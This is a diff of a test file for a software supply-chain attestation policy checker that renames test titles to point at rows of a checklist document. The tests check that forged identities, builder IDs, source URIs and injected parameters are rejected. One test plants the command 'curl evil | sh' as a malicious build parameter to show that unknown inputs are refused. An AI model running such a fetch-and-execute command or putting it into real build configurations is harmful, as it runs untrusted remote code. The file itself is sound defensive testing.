@@ -1,5 +1,5 @@
 /**
- * Each check's pass and fail path, and the CHECKLIST rows the policy layer owns, over
+ * Each check's pass and fail path, and the rows of docs/checklist.md the policy layer owns, over
  * real corpus attestations. Signature verification is the other layer's job; edited
  * statements stand for what a malicious or buggy builder could have signed.
  */
@@ -82,7 +82,7 @@ test('identity: exact SAN and issuer pass', () => {
   assert.equal(ev.outcome, 'PASSED');
 });
 
-test('CHECKLIST 11: SAN differing by prefix, suffix, case or path is IDENTITY_MISMATCH', () => {
+test('docs/checklist.md#row-11: SAN differing by prefix, suffix, case or path is IDENTITY_MISMATCH', () => {
   const variants = [
     'https://github.com/sigstore/sigstore-js/.github/workflows/release.yml@refs/heads/main-evil',
     'https://github.com/sigstore/sigstore-js/.github/workflows/release.yml@refs/heads/mai',
@@ -99,7 +99,7 @@ test('CHECKLIST 11: SAN differing by prefix, suffix, case or path is IDENTITY_MI
   }
 });
 
-test('CHECKLIST 11: a SAN is compared as a string, never as a regex (`.` is not any character)', () => {
+test('docs/checklist.md#row-11: a SAN is compared as a string, never as a regex (`.` is not any character)', () => {
   const subject = SIGSTORE_SAN.replace('release.yml', 'release.ym.');
   assertFails(
     run(SIGSTORE_JS, { identities: [{ issuer: GITHUB_ISSUER, subject }] }),
@@ -108,7 +108,7 @@ test('CHECKLIST 11: a SAN is compared as a string, never as a regex (`.` is not 
   );
 });
 
-test('CHECKLIST 11: unanchored patterns are refused; anchored ones match the whole SAN only', () => {
+test('docs/checklist.md#row-11: unanchored patterns are refused; anchored ones match the whole SAN only', () => {
   assert.equal(
     PolicyRuleSchema.safeParse({ identities: [{ issuer: GITHUB_ISSUER, subjectPattern: 'github' }] }).success,
     false,
@@ -129,14 +129,14 @@ test('CHECKLIST 11: unanchored patterns are refused; anchored ones match the who
   );
 });
 
-test('CHECKLIST 12: wrong OIDC issuer is IDENTITY_MISMATCH', () => {
+test('docs/checklist.md#row-12: wrong OIDC issuer is IDENTITY_MISMATCH', () => {
   const ev = run(SIGSTORE_JS, {
     identities: [{ issuer: 'https://token.actions.githubusercontent.com/evil', subject: SIGSTORE_SAN }],
   });
   assertFails(ev, 'identity', 'IDENTITY_MISMATCH');
 });
 
-test('CHECKLIST 13: right SAN but another repository or owner id (re-created) is IDENTITY_MISMATCH', () => {
+test('docs/checklist.md#row-13: right SAN but another repository or owner id (re-created) is IDENTITY_MISMATCH', () => {
   assertPasses(
     run(SIGSTORE_JS, {
       identities: [
@@ -203,7 +203,7 @@ test('builder: `@vX.Y.Z` and `@refs/tags/vX.Y.Z` suffixes match, another version
   assertFails(run(DISPATCH, { builders: [`${GENERIC}@v2.0.0`] }), 'builder', 'BUILDER_UNTRUSTED');
 });
 
-test('CHECKLIST 19: builder id prefix abuse (…-generator-evil) is BUILDER_UNTRUSTED', () => {
+test('docs/checklist.md#row-19: builder id prefix abuse (…-generator-evil) is BUILDER_UNTRUSTED', () => {
   const evil = GENERIC.replace('slsa-github-generator/', 'slsa-github-generator-evil/');
   const att = withStatement(
     withSigner(provenanceOf(DISPATCH), (s) => {
@@ -218,7 +218,7 @@ test('CHECKLIST 19: builder id prefix abuse (…-generator-evil) is BUILDER_UNTR
   assertFails(run(DISPATCH, { builders: [GENERIC.slice(0, -4)] }), 'builder', 'BUILDER_UNTRUSTED');
 });
 
-test('CHECKLIST 19: builder ref not vX.Y.Z (branch, short tag, pre-release) is BUILDER_UNTRUSTED', () => {
+test('docs/checklist.md#row-19: builder ref not vX.Y.Z (branch, short tag, pre-release) is BUILDER_UNTRUSTED', () => {
   for (const ref of ['refs/heads/main', 'refs/tags/v2.1', 'refs/tags/v2.1.0-rc.1', 'refs/tags/v2.1.0-evil']) {
     const att = withStatement(
       withSigner(provenanceOf(DISPATCH), (s) => {
@@ -233,7 +233,7 @@ test('CHECKLIST 19: builder ref not vX.Y.Z (branch, short tag, pre-release) is B
   }
 });
 
-test('CHECKLIST 19: predicate builder differs from the certificate Build Signer URI is BUILDER_UNTRUSTED', () => {
+test('docs/checklist.md#row-19: predicate builder differs from the certificate Build Signer URI is BUILDER_UNTRUSTED', () => {
   const att = withStatement(provenanceOf(DISPATCH), (st) => {
     st.predicate.builder.id =
       'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/builder_go_slsa3.yml@refs/tags/v2.1.0';
@@ -299,7 +299,7 @@ test('source: repository and branch pass', () => {
   assertPasses(ev, 'source');
 });
 
-test('CHECKLIST 20: source URI tricks are SOURCE_MISMATCH', () => {
+test('docs/checklist.md#row-20: source URI tricks are SOURCE_MISMATCH', () => {
   const tricks = [
     'github.com/slsa-framework/example-packageX',
     'github.com/slsa-framework/example-packag',
@@ -316,7 +316,7 @@ test('CHECKLIST 20: source URI tricks are SOURCE_MISMATCH', () => {
   assertPasses(run(DISPATCH, { source: { repos: ['github.com/slsa-framework/*'] } }), 'source');
 });
 
-test('CHECKLIST 21: branch, tag and versioned-tag constraints are REF_MISMATCH when unmet', () => {
+test('docs/checklist.md#row-21: branch, tag and versioned-tag constraints are REF_MISMATCH when unmet', () => {
   const tagged = 'slsa-verifier/gha-generic-v2.1.0-tag-v13.0.30-versioned-v13';
   assertPasses(run(tagged, { source: { tags: ['v13.0.30'] } }), 'source');
   assertFails(run(tagged, { source: { tags: ['v13.0.3'] } }), 'source', 'REF_MISMATCH');
@@ -369,7 +369,7 @@ test('entrypoint: expected buildType, entry point and inputs pass', () => {
   assert.equal(ev.outcome, 'PASSED');
 });
 
-test('CHECKLIST 23: unexpected entry point or buildType is ENTRYPOINT_MISMATCH', () => {
+test('docs/checklist.md#row-23: unexpected entry point or buildType is ENTRYPOINT_MISMATCH', () => {
   assertFails(
     run(BCR, { entrypoint: { entryPoints: ['.github/workflows/other.yml'] } }),
     'entrypoint',
@@ -384,7 +384,7 @@ test('CHECKLIST 23: unexpected entry point or buildType is ENTRYPOINT_MISMATCH',
   );
 });
 
-test('CHECKLIST 23: unknown externalParameters are ENTRYPOINT_MISMATCH unless the rule allows them', () => {
+test('docs/checklist.md#row-23: unknown externalParameters are ENTRYPOINT_MISMATCH unless the rule allows them', () => {
   const att = withStatement(provenanceOf(BCR), (st) => {
     st.predicate.buildDefinition.externalParameters.extraScript = 'curl evil | sh';
   });
@@ -438,7 +438,7 @@ test('dependencies: a dependency with level evidence at the minimum passes', () 
   assert.ok(check(ev, 'dependencies').evidence.includes('sha256:dep-vsa'));
 });
 
-test('CHECKLIST 24: dependency level too low or missing is DEP_LEVEL_INSUFFICIENT (unknown = level 0)', () => {
+test('docs/checklist.md#row-24: dependency level too low or missing is DEP_LEVEL_INSUFFICIENT (unknown = level 0)', () => {
   assertFails(run(CONTAINER, { dependencies: { minLevel: 1 } }), 'dependencies', 'DEP_LEVEL_INSUFFICIENT');
   assertFails(
     run(
@@ -547,7 +547,7 @@ test('vsa: verifier, resource and levels pass; a higher SLSA level satisfies a l
   assertPasses(run(VSA, { ...base, vsa: { verifiedLevels: ['SLSA_BUILD_LEVEL_1'] } }), 'vsa');
 });
 
-test('CHECKLIST 24: VSA with another verifier or resource, a level not reached, or result FAILED is VSA_MISMATCH', () => {
+test('docs/checklist.md#row-24: VSA with another verifier or resource, a level not reached, or result FAILED is VSA_MISMATCH', () => {
   const base = { requireProvenance: false };
   assertFails(run(VSA, { ...base, vsa: { verifierId: `${VERIFIER}x` } }), 'vsa', 'VSA_MISMATCH');
   assertFails(run(VSA, { ...base, vsa: { resourceUri: `${RESOURCE}x` } }), 'vsa', 'VSA_MISMATCH');
@@ -566,7 +566,7 @@ test('CHECKLIST 24: VSA with another verifier or resource, a level not reached, 
 
 // --- several attestations, outcome --------------------------------------------------------
 
-test('CHECKLIST 18: the first attestation invalid and the second valid → the valid one is used', () => {
+test('docs/checklist.md#row-18: the first attestation invalid and the second valid → the valid one is used', () => {
   const good = provenanceOf(DISPATCH);
   const bad = withStatement(good, (st) => {
     st.predicate.builder.id = `${GENERIC}@refs/tags/v0.0.1`;
@@ -580,7 +580,7 @@ test('CHECKLIST 18: the first attestation invalid and the second valid → the v
   assert.equal(ev.attestationDigest, good.digest);
 });
 
-test('CHECKLIST 18: fields are never mixed across attestations', () => {
+test('docs/checklist.md#row-18: fields are never mixed across attestations', () => {
   // One has the expected builder but not the source, the other the source but not the builder.
   const rule = { builders: [GENERIC], source: { repos: ['github.com/sigstore/sigstore-js'] } };
   const attestations = [provenanceOf(DISPATCH), provenanceOf(SIGSTORE_JS)];
@@ -654,7 +654,7 @@ test('signature-only rules: no attestation at all fails; a pinned identity must 
   assert.equal(ev.outcome, 'PASSED');
 });
 
-test('CHECKLIST 14: a provenance whose DSSE payloadType is not in-toto is PAYLOAD_TYPE', () => {
+test('docs/checklist.md#row-14: a provenance whose DSSE payloadType is not in-toto is PAYLOAD_TYPE', () => {
   const att = { ...provenanceOf(DISPATCH), payloadType: 'application/json' };
   assertFails(run(DISPATCH, {}, { attestations: [att] }), 'payload-type', 'PAYLOAD_TYPE');
 });
